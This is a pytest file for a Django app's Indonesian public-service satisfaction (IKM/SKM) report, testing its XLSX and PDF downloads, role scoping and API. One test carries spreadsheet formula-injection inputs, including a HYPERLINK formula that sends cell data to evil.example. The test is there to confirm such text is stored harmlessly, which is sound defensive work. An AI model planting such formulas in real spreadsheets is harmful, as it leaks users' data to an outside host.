"""The printable SKM report: the spreadsheet's figures are ikm.compute's; the PDF carries the IKM and mutu.

There is no pdftotext on the build machines, so the PDF is built uncompressed (``pageCompression=0``,
``invariant=1``) and the tests read its text straight from the bytes.
"""

import datetime as dt
import io
import re

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from satuatap.directory.hours import local_now
from satuatap.feedback import follow_up, ikm, periods
from satuatap.feedback.tests.conftest import answered, finished_ticket
from satuatap.testing import assert_api_error, bearer_as

# A report sums up "this month": the clock starts at MONDAY_MORNING, so no month ends during a test.
pytestmark = pytest.mark.usefixtures("monday_morning")


def this_month(world) -> periods.Period:
    return periods.Period("month", *periods.bounds("month", local_now(world.mall).date()))


def download(client, world, persona, extension, **query):
    client.force_login(world.users[persona])
    return client.get(reverse(f"skm_report_{extension}", args=[world.mall.slug]), query)


def rows_of(sheet) -> list[tuple]:
    return [tuple(row) for row in sheet.iter_rows(values_only=True)]


def labelled(sheet) -> dict:
    return {row[0]: row[1] for row in rows_of(sheet) if row and isinstance(row[0], str) and len(row) > 1}


def pdf_text(body: bytes) -> str:
    """The strings drawn on the pages of an uncompressed reportlab PDF."""
    return " ".join(m.decode("latin-1") for m in re.findall(rb"\((.*?)(?<!\\)\) Tj", body))


def seed(world):
    answered(world, [4, 4, 4, 3, 4, 4, 3, 2, 3], at=None)
    answered(world, [3, 4, 4, 3, 3, 4, 4, 3, 2])
    answered(world, [4, 4, 3, 4, 4, 4, 4, 2, 3], code="DUKCAPIL-KK")
    answered(world, [1] * 9, code="IMIGRASI-PASPOR")
    response = answered(world, [4] * 9, code="POLRESTA-SKCK", source="tablet")
    response.age_band, response.sex, response.education, response.occupation = "30_39", "P", "s1", "swasta"
    response.save()
    for _ in range(3):
        finished_ticket(world)  # visitors who did not answer


def test_xlsx_figures_are_ikm_compute_result(client, world):
    seed(world)
    period = this_month(world)
    items = follow_up.propose(world.mall, period, actor=world.users["manager"])
    follow_up.update(items[0], actor=world.users["manager"], action="Perbaiki kotak saran", owner="Subbag Umum")
    follow_up.mark_done(items[0], "dipasang", world.users["manager"])
    response = download(client, world, "manager", "xlsx", period="month")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats-officedocument.spreadsheetml")
    assert "attachment;" in response["Content-Disposition"] and ".xlsx" in response["Content-Disposition"]
    book = load_workbook(io.BytesIO(response.content))
    assert book.sheetnames == ["Ringkasan", "Profil responden", "Tindak lanjut"]
    start, end = period.datetimes(world.mall)
    expected = ikm.compute(world.mall, start, end)
    summary = book["Ringkasan"]
    element_rows = [row for row in rows_of(summary) if row[0] and re.fullmatch(r"U\d", str(row[0]))]
    assert len(element_rows) == 9
    for row, element in zip(element_rows, expected.elements, strict=True):
        assert row[1] == element.name
        assert row[2] == element.total
        assert row[3] == float(element.nrr_display)
        assert row[4] == float(element.weighted_display)
        assert row[5] == element.mutu
    values = labelled(summary)
    assert values["IKM unit pelayanan"] == float(expected.ikm)
    assert values["Mutu pelayanan"] == expected.mutu
    assert values["Kinerja unit pelayanan"] == expected.kinerja
    assert values["Jumlah responden"] == expected.respondents == 5
    assert values["Jumlah pengunjung selesai dilayani (populasi)"] == expected.visitors == 8
    assert values["Sampel minimal (Krejcie–Morgan)"] == expected.sample_required
    assert values["Sampel tercapai"] == ("Ya" if expected.sample_reached else "Tidak")
    assert values["Jumlah NRR tertimbang"] == float(expected.weighted_total_display)
    # The profile: the one respondent who gave it, the rest "Tidak diisi".
    people = rows_of(book["Profil responden"])
    assert ("Umur", "30–39 tahun", 1) in people and ("Umur", "Tidak diisi", 4) in people
    assert ("Jenis kelamin", "Perempuan", 1) in people and ("Pekerjaan", "Pegawai swasta", 1) in people
    # Where the answers came from: one at the counter's tablet, four through the link.
    assert ("Sumber jawaban", "Tablet di loket", 1) in people
    assert ("Sumber jawaban", "Tautan atau QR (ponsel)", 4) in people and ("Sumber jawaban", "API", 0) in people
    # The follow-up plan.
    plan = rows_of(book["Tindak lanjut"])
    assert plan[0][:3] == ("No.", "Unsur", "NRR")
    done_row = next(r for r in plan if r[3] == "Perbaiki kotak saran")
    assert done_row[1].startswith(f"U{items[0].element} ") and done_row[6].startswith("Selesai")
    assert done_row[2] == float(items[0].nrr)
    assert len([r for r in plan[1:] if r and isinstance(r[0], int)]) == len(items)
    assert labelled(book["Tindak lanjut"])["Persentase selesai"] == float(
        follow_up.summarize(items, world.mall).share_done
    )


def test_user_text_that_looks_like_a_formula_is_written_as_text(client, world):
    seed(world)
    evil = '=HYPERLINK("http://evil.example/?d="&A1,"Klik")'
    follow_up.add(
        world.mall,
        this_month(world),
        actor=world.users["manager"],
        element=9,
        action=evil,
        owner="@SUM(1+1)*cmd",
        due="2030-12-31",
    )
    book = load_workbook(io.BytesIO(download(client, world, "manager", "xlsx", period="month").content))
    cells = [cell for row in book["Tindak lanjut"].iter_rows() for cell in row if cell.value in (evil, "@SUM(1+1)*cmd")]
    assert len(cells) == 2
    assert all(cell.data_type == "s" for cell in cells)
    assert not any(cell.data_type == "f" for sheet in book.worksheets for row in sheet.iter_rows() for cell in row)


def test_pdf_is_a_pdf_with_the_ikm_and_mutu(client, world):
    seed(world)
    period = this_month(world)
    start, end = period.datetimes(world.mall)
    expected = ikm.compute(world.mall, start, end)
    response = download(client, world, "manager", "pdf", period="month")
    assert response.status_code == 200 and response["Content-Type"] == "application/pdf"
    assert response.content.startswith(b"%PDF-")
    text = pdf_text(response.content)
    ikm_shown = f"{expected.ikm:.2f}".replace(".", ",")
    assert "IKM unit pelayanan" in text and ikm_shown in text
    assert "Mutu pelayanan" in text and expected.kinerja in text
    assert re.search(rf"Mutu pelayanan .*? {expected.mutu} ", text)
    assert "Krejcie" in text and "NRR tertimbang" in text and "Rencana tindak lanjut" in text
    assert f"{expected.elements[7].nrr_display:.4f}".replace(".", ",") in text


def test_downloads_follow_the_pages_scope_and_period(client, world):
    seed(world)
    # A supervisor gets their agency's report, and never another agency's.
    response = download(client, world, "sup_imigrasi", "xlsx", period="month")
    values = labelled(load_workbook(io.BytesIO(response.content))["Ringkasan"])
    assert values["IKM unit pelayanan"] == 25.0 and values["Mutu pelayanan"] == "D"
    assert values["Unit pelayanan"] == world.agencies["IMIGRASI"].name
    assert download(client, world, "sup_imigrasi", "pdf", agency="DUKCAPIL").status_code == 404
    # One service, and an empty period.
    response = download(client, world, "manager", "xlsx", service="DUKCAPIL-KK")
    values = labelled(load_workbook(io.BytesIO(response.content))["Ringkasan"])
    assert values["Jumlah responden"] == 1 and "Kartu Keluarga" in values["Unit pelayanan"]
    old = download(client, world, "manager", "xlsx", period="year", date="2020-06-01")
    values = labelled(load_workbook(io.BytesIO(old.content))["Ringkasan"])
    assert values["Jumlah responden"] == 0 and values["IKM unit pelayanan"] is None  # an empty cell, not a text
    assert download(client, world, "manager", "pdf", period="year", date="2020-06-01").content.startswith(b"%PDF")
    assert "2020" in old["Content-Disposition"]
    # On the mall's report, an agency's item says whose it is.
    follow_up.propose(
        world.mall, this_month(world), actor=world.users["sup_imigrasi"], agency=world.agencies["IMIGRASI"]
    )
    response = download(client, world, "manager", "xlsx")
    plan = rows_of(load_workbook(io.BytesIO(response.content))["Tindak lanjut"])
    assert plan[1][1] == f"U1 Persyaratan ({world.agencies['IMIGRASI'].name})"
    response = download(client, world, "sup_imigrasi", "xlsx")
    assert rows_of(load_workbook(io.BytesIO(response.content))["Tindak lanjut"])[1][1] == "U1 Persyaratan"


def test_downloads_are_kept_from_officers_devices_and_anonymous(client, world):
    for persona in ("officer1", "kiosk"):
        assert download(client, world, persona, "pdf").status_code == 404
        assert download(client, world, persona, "xlsx").status_code == 404
    client.logout()
    assert client.get(reverse("skm_report_pdf", args=[world.mall.slug])).status_code == 302


def test_the_report_page_links_the_downloads_with_its_query(client, world):
    client.force_login(world.users["manager"])
    html = client.get(reverse("skm_report", args=[world.mall.slug]), {"period": "year", "date": "2026-01-05"}).content
    assert b"/m/pekanbaru/skm/laporan.pdf?period=year&amp;date=2026-01-05" in html
    assert b"/m/pekanbaru/skm/laporan.xlsx?period=year&amp;date=2026-01-05" in html
    assert dt.date(2026, 1, 5)  # the date is carried as typed


def api_document(client, world, persona, query=""):
    url = f"/api/v1/malls/{world.mall.slug}/reports/ikm/document{query}"
    return client.get(url, headers=bearer_as(world, persona))


def test_the_api_gives_the_same_document_for_a_period_and_scope(client, world):
    seed(world)
    period = this_month(world)
    follow_up.propose(world.mall, period, actor=world.users["manager"])
    dates = f"from={period.first}&to={period.last}"
    sheet = api_document(client, world, "manager", f"?format=xlsx&{dates}")
    assert sheet.status_code == 200, sheet.content
    assert sheet["Content-Type"].startswith("application/vnd.openxmlformats-officedocument.spreadsheetml")
    page_sheet = download(client, world, "manager", "xlsx", period="month")
    api_book, page_book = (load_workbook(io.BytesIO(r.content)) for r in (sheet, page_sheet))
    for name in ("Ringkasan", "Profil responden", "Tindak lanjut"):
        assert rows_of(api_book[name]) == rows_of(page_book[name])  # a whole month is named a month, items included
    assert sheet["Content-Disposition"] == page_sheet["Content-Disposition"]
    pdf = api_document(client, world, "manager")  # PDF and this month by default
    assert pdf.status_code == 200 and pdf.content.startswith(b"%PDF-") and "IKM unit pelayanan" in pdf_text(pdf.content)
    # Scoped like the IKM report; bad input is named.
    supervisor = api_document(client, world, "sup_imigrasi", "?format=xlsx")
    assert labelled(load_workbook(io.BytesIO(supervisor.content))["Ringkasan"])["IKM unit pelayanan"] == 25.0
    assert_api_error(api_document(client, world, "sup_imigrasi", "?agency=DUKCAPIL"), 404)
    assert_api_error(api_document(client, world, "officer1"), 403)
    assert_api_error(api_document(client, world, "manager", "?format=docx"), 422)
    custom = api_document(client, world, "manager", f"?format=xlsx&from={period.first}&to={period.first}")
    assert "Rentang tanggal" in str(labelled(load_workbook(io.BytesIO(custom.content))["Ringkasan"]).values())


def test_a_whole_period_is_named_by_its_kind():
    assert periods.kind_of(dt.date(2026, 4, 1), dt.date(2026, 6, 30)) == "quarter"
    assert periods.kind_of(dt.date(2026, 1, 1), dt.date(2026, 12, 31)) == "year"
    assert periods.kind_of(dt.date(2026, 2, 1), dt.date(2026, 2, 28)) == "month"
    assert periods.kind_of(dt.date(2026, 7, 1), dt.date(2026, 12, 31)) == "semester"
    assert periods.kind_of(dt.date(2026, 2, 2), dt.date(2026, 2, 28)) == "custom"
